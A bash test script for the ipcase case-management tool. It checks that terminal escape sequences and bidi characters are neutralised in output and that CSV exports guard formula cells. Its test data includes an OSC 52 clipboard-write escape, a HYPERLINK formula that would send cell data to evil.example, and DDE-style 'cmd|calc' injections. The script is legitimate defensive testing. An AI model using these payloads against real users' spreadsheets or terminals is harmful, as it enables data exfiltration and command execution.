#!/usr/bin/env bash
# No escapes to the terminal, no formulas in spreadsheets (issue 13, items 5 and 6), tried as a
# hostile colleague or a doctored file would:
#  - an OSC 52 clipboard write, a CSI, a C1 CSI and U+202E in a CSV header cell, in a bad
#    CSV enum cell, as a calendar file's first token, and as an enum value on the command
#    line; a case title with U+202E, U+2066 and a zero-width space in `case list`,
#    `case show`, `log` (text) and in `case list --json`, `export --format json`;
#    each checks the raw bytes of stdout and stderr (valid UTF-8, no C0 but newline and tab,
#    no DEL, no C1, no format character: bidi, zero-width, tags) and that the message is
#    still there in words; JSON read back by python gives the exact original strings;
#  - investigators whose fields begin with =, +, -, @ and ' exported as CSV: python's csv
#    module reads each such cell with a leading ', and the file imported into a fresh
#    workspace gives back the exact values.
# Usage: tests/escapes.sh path/to/ipcase
set -u
bin=${1:?usage: escapes.sh IPCASE_BINARY}
tmp=$(mktemp -d /tmp/ipcase-escapes-XXXXXX)
trap 'rm -rf "$tmp"' EXIT
# shellcheck source=fixtures/verdict.sh
. "$(dirname "$0")/fixtures/verdict.sh"
export HOME=$tmp LANG=C.UTF-8
A() { "$bin" --home "$tmp/a" "$@"; }
F() { "$bin" --home "$tmp/f" "$@"; }

# Fails, saying what, when a file holds a byte or character no terminal should get.
terminal_safe() {
  /usr/bin/python3 - "$1" <<'EOF'
import sys, unicodedata
raw = open(sys.argv[1], 'rb').read()
try:
    text = raw.decode('utf-8')
except UnicodeDecodeError as e:
    sys.exit('not UTF-8: %s' % e)
for c in text:
    o = ord(c)
    if (o < 0x20 and c not in '\n\t') or 0x7f <= o <= 0x9f or unicodedata.category(c) == 'Cf':
        sys.exit('U+%04X in the output' % o)
EOF
}

# Runs a command, keeping its stdout and stderr in $tmp/out and $tmp/err.
run() { "$@" >"$tmp/out" 2>"$tmp/err"; rc=$?; }
both_safe() { terminal_safe "$tmp/out" && terminal_safe "$tmp/err"; }

osc52=$'\e]52;c;ZXZpbA==\a'
evil="x${osc52}"$'\e[2J\xc2\x9b2J\u202ey'

A init --office 130100 --office-name 石家庄市市场监督管理局 --officer 李敏 --cert 13010001 >/dev/null

# ---- messages: a CSV header cell, a CSV enum cell, a calendar token, an argument ----
printf 'name,organisation,fields,%s\n张三,某所,集成电路,1\n' "$evil" >"$tmp/header.csv"
run A investigator import "$tmp/header.csv"
check "CSV header cell: refused (exit 1)" test "$rc" = 1
check "… stdout and stderr reach no terminal escape" both_safe
check "… the message is there in words" grep -qF 'unknown column "x?]52;c;ZXZpbA==??[2J?2J?y"' "$tmp/err"

printf 'name,organisation,fields,availability\n张三,某所,集成电路,%s\n' "$evil" >"$tmp/enum.csv"
run A investigator import "$tmp/enum.csv"
check "CSV enum cell: the row rejected (exit 1)" test "$rc" = 1
check "… stdout and stderr reach no terminal escape" both_safe
check "… the message is there in words" grep -qF 'line 2: availability: unknown value "x?]52' "$tmp/err"
run A investigator import "$tmp/enum.csv" --json
check "… with --json: stdout and stderr reach no terminal escape" both_safe
check "… and the reason read back holds the cell exactly" /usr/bin/python3 -c '
import json, sys
r = json.load(open(sys.argv[1]))["rejected"][0]["reason"]
sys.exit(sys.argv[2] not in r)' "$tmp/out" "$evil"

printf '%s 2025\n2025-01-01 off 元旦\n' "$evil" >"$tmp/calendar.txt"
run A calendar import "$tmp/calendar.txt"
check "calendar file's first token: refused" test "$rc" != 0
check "… stdout and stderr reach no terminal escape" both_safe
check "… the message is there in words" grep -qF 'calendar.txt:1: "x?]52;c;ZXZpbA==?' "$tmp/err"

run A case add --title 标题 --ip-type "$osc52"
check "an enum value on the command line: refused" test "$rc" != 0
check "… stdout and stderr reach no terminal escape" both_safe
check "… the message is there in words" grep -qF 'ip_type: unknown value "?]52;c;ZXZpbA==?"' "$tmp/err"
run A case add --title 标题 --ip-type $'\xc2\x9b2J\u2066'
check "… a C1 CSI and U+2066 there too" both_safe
run A case list --status "$evil"
check "… and as an option of a list" both_safe
check "… which still says what was wrong" grep -qF 'x?]52' "$tmp/err"
run A "$evil"
check "an unknown command: no terminal escape" both_safe
check "… named in words" grep -qF 'unknown command "x?]52' "$tmp/err"

# ---- records: a title with bidi and invisible characters ----
title=$'清屏\u202e[2J测试\u2066尾\u200b'
id=$(A case add --title "$title" --ip-type trademark)
run A case list
check "case list: no bidi or invisible character" both_safe
check "… the title as text" grep -qF '清屏?[2J测试?尾?' "$tmp/out"
run A case show "$id"
check "case show: no bidi or invisible character" both_safe
check "… the title as text" grep -qF '清屏?[2J测试?尾?' "$tmp/out"
run A log "$id"
check "log: no bidi or invisible character" both_safe
run A case list --json
check "case list --json: no raw bidi or invisible character" both_safe
check "… escaped as \\uXXXX" grep -qF '清屏\u202E[2J测试\u2066尾\u200B' "$tmp/out"
check "… read back: the exact title, Chinese as UTF-8" /usr/bin/python3 -c '
import json, sys
sys.exit(json.load(open(sys.argv[1]))[0]["title"] != sys.argv[2])' "$tmp/out" "$title"
run A case show "$id" --json
check "case show --json: read back exactly, nothing raw" eval 'both_safe && /usr/bin/python3 -c "
import json, sys
sys.exit(json.load(open(sys.argv[1]))[\"title\"] != sys.argv[2])" "$tmp/out" "$title"'
run A export --format json
check "export --format json: nothing raw, the title read back exactly" eval 'both_safe && /usr/bin/python3 -c "
import json, sys
d = json.load(open(sys.argv[1]))
sys.exit(not any(r.get(\"title\") == sys.argv[2] for r in d[\"records\"]))" "$tmp/out" "$title"'

# ---- spreadsheets: formulas guarded on export, read back unchanged ----
A investigator add --name '=HYPERLINK("http://evil.example/?"&A1,"点击")' --org '+cmd|'"' /C calc'"'!A0' \
  --fields 集成电路 --qualification '@SUM(1+1)*cmd|calc' --contact '-2+3' >/dev/null
A investigator add --name "'张三" --org '-某研究所' --fields 生物医药 --qualification "''=1" \
  --contact '@家' >/dev/null
A investigator add --name 李四 --org 河北工业大学 --fields 机械 --qualification 'a=b' >/dev/null
run A investigator export --output "$tmp/pool.csv"
check "export: done" test "$rc" = 0
check "the cells beginning with = + - @ ' carry a leading ', the others none" /usr/bin/python3 -c '
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8")))
want = {
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")": "name", "+cmd|'"' /C calc'"'!A0": "organisation",
  "@SUM(1+1)*cmd|calc": "qualification", "-2+3": "contact", "'"'"'张三": "name",
  "-某研究所": "organisation", "'"''"'=1": "qualification", "@家": "contact"}
cells = {(r[k], k) for r in rows for k in r}
missing = [(v, k) for v, k in want.items() if ("'"'"'" + v, k) not in cells]
plain = [c for c in cells if c[0] and c[0][0] in "=+-@"]
print(missing, plain) if missing or plain else None
sys.exit(bool(missing or plain) or ("李四", "name") not in cells or ("a=b", "qualification") not in cells)
' "$tmp/pool.csv"
A investigator export >"$tmp/stdout.csv"
check "export on stdout: the same bytes" cmp -s "$tmp/pool.csv" "$tmp/stdout.csv"

F init --office 110108 --office-name 北京市海淀区市场监督管理局 --officer 陈静 --cert 11010801 >/dev/null
run F investigator import "$tmp/pool.csv"
check "import into a fresh workspace: 3 added" grep -q '^3 added, 0 updated, 0 unchanged, 0 rejected' "$tmp/out"
F investigator export --output "$tmp/again.csv"
check "… every value back unchanged: its export is the same file but for the ids" /usr/bin/python3 -c '
import csv, sys
def rows(p):
    return sorted(tuple(v for k, v in r.items() if k != "id")
                  for r in csv.DictReader(open(p, newline="", encoding="utf-8")))
sys.exit(rows(sys.argv[1]) != rows(sys.argv[2]))' "$tmp/pool.csv" "$tmp/again.csv"
check "… and the values read back are the originals" /usr/bin/python3 -c '
import json, subprocess, sys
got = {(i["name"], i["organisation"], i["qualification"])
       for i in json.loads(subprocess.run(sys.argv[1:], capture_output=True).stdout)}
sys.exit(got != {("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+cmd|'"' /C calc'"'!A0",
                  "@SUM(1+1)*cmd|calc"), ("'"'"'张三", "-某研究所", "'"''"'=1"),
                 ("李四", "河北工业大学", "a=b")})' "$bin" --home "$tmp/f" investigator list --json

echo "escapes: $pass passed, $fail failed"
[ "$fail" -eq 0 ]
